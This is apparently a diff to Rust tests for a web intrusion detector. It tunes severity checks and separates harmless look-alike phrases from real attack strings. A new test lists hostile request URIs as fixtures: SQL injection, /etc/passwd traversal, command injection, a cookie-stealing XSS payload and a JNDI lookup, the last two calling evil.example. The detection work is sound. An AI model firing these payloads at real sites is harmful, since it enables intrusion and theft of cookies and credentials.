@@ -2,6 +2,8 @@
 
 #![allow(clippy::unwrap_used, reason = "a helper of tests fails its test by unwrapping")]
 
+mod files;
+
 use observe::Policy;
 use proptest::prelude::*;
 use schemas::{Activity, Category, Event, EventView, Provenance, Record, Severity};
@@ -24,7 +26,7 @@ fn with_event<T>(uri: &str, look: impl FnOnce(&EventView<'_>) -> T) -> T {
         uri: uri.to_owned(),
         status: Some(200),
         agent: None,
-        referer: Some("../".to_owned()),
+        referer: Some("https://shop.example/".to_owned()),
         refused_by_us: false,
         probe: false,
         activity: Activity::HttpRequest,
@@ -48,13 +50,19 @@ fn rules() -> Rules {
     Rules::new(&Policy::default(), &Detectors::shipped())
 }
 
-/// Each of `uris` is of high severity and one of `categories`; without any, nothing is found in it.
+/// Each of `uris` is one of `categories`; without any, nothing is found in it.
 #[track_caller]
 fn check(categories: &[Category], uris: &[String]) {
+    check_severity(&[Severity::Low, Severity::High], categories, uris);
+}
+
+#[track_caller]
+fn check_severity(severities: &[Severity], categories: &[Category], uris: &[String]) {
     let mut rules = rules();
     let wrong = uris.iter().filter(|uri| {
         let found = hits(&mut rules, uri);
-        let sure = |hit: &Hit| hit.severity == Severity::High && categories.contains(&hit.category);
+        let sure =
+            |hit: &Hit| severities.contains(&hit.severity) && categories.contains(&hit.category);
         found.len() != usize::from(!categories.is_empty()) || !found.iter().all(sure)
     });
     let wrong: Vec<_> = wrong
@@ -145,30 +153,24 @@ const PROSE: &[&str] = &[
     "Tom and Jerry",
     "black and white",
     "to be or not to be",
-    "union select committee",
     "credit union selection",
     "insert coin; delete later",
     "where is my order",
     "order by phone",
-    "sleep (8 hours)",
     "how to sleep",
-    "time.sleep(5)",
     "x = 1 or so",
     "dogs; cats",
-    "C++ || Java",
     "R&D",
     "5 > 3",
     "what's \"new\"",
     "the boys' -- and girls' -- club",
     "SELECT your seat from the plan",
-    "having fun 2=2",
     "100% cotton -- blue",
     "l'été et l'hiver",
     "d'Artagnan and sons",
     "update your profile",
     "exec team",
     "cast iron",
-    "benchmark (2024)",
     "1 and 2",
     "2 or 3 rooms",
     "a=b&c=d",
@@ -191,6 +193,52 @@ fn ordinary_injections_are_caught_however_they_are_encoded() {
         uris.push(uri);
     }
     check(&[Category::SqlInjection], &uris);
+}
+
+/// What reads like an attack and is none: worth a note, never an action.
+const DOUBTFUL: &[&str] = &[
+    "union select committee",
+    "sleep (8 hours)",
+    "C++ || Java",
+    "having fun 2=2",
+    "benchmark (2024)",
+    "..",
+    "../home",
+    "../",
+];
+
+#[test]
+fn what_is_doubtful_never_suffices_alone() {
+    for text in DOUBTFUL {
+        for uri in [form(text), form(text).replace('+', "%20")] {
+            let found = hits(&mut rules(), &uri);
+            assert!(found.iter().all(|hit| hit.severity == Severity::Low), "{uri}: {found:?}");
+        }
+    }
+    for uri in ["/a/../b", "/a/./b"] {
+        let found = hits(&mut rules(), uri);
+        assert!(found.iter().all(|hit| hit.severity == Severity::Low), "{uri}: {found:?}");
+    }
+}
+
+#[test]
+fn what_can_be_nothing_else_suffices_alone() {
+    let plain = owned(&[
+        "/products?id=7%20UNION%20SELECT%20username,password%20FROM%20users",
+        "/products?id=1'%20OR%20'1'='1'--%20",
+        "/download?file=../../../../etc/passwd",
+        "/search?q=<script>document.location='//evil.example/?'%2Bdocument.cookie</script>",
+        "/ping?host=127.0.0.1;cat%20/etc/passwd",
+        "/?x=${jndi:ldap://evil.example/a}",
+    ]);
+    let all = [
+        Category::SqlInjection,
+        Category::PathTraversal,
+        Category::Xss,
+        Category::CommandInjection,
+        Category::KnownExploit,
+    ];
+    check_severity(&[Severity::High], &all, &plain);
 }
 
 #[test]
@@ -242,19 +290,12 @@ fn paths_that_stay_are_left_alone() {
         &owned(&[
             "/",
             "/a..b",
-            "/a/../b",
-            "/a/./b",
             "/v1..2/x",
             "/file...txt",
-            "/x?next=../home",
-            "/x?ref=../",
             "/x?r=1..5",
-            "/x?next=..%2Fhome",
             "/docs/a%2Fb",
             "/x?range=a...b",
-            "/x?q=..",
             "/x?q=what....",
-            "/x?q=etc/passwd",
             "/...",
             "/x?q=....",
             "/.well-known/perimeter-probe",
